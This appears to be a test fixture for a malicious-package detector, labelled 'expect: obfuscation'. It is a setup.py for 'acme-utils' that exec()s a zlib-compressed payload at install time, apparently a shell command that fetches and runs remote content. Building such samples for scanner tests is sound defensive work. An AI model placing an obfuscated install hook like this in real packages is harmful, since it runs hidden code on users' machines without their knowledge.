# expect: obfuscation
import zlib

from setuptools import setup

exec(zlib.decompress(b'x\x9c\xcb\xcc-\xc8/*Q\xc8/\xe6\xca/\xd6+\xae,.I\xcd\xd5PJ.-\xcaQ\xd0-V\xc8())(\xb6\xd2\xd7/H\x04\x8a\xeb\xa5\xa6\xea\x17\xe9WX*\xd4(\x14g(ir\x01\x00e\x84\x13\x8a'))

setup(
    name="acme-utils",
    version="0.3.1",
    packages=["acme_utils"],
)
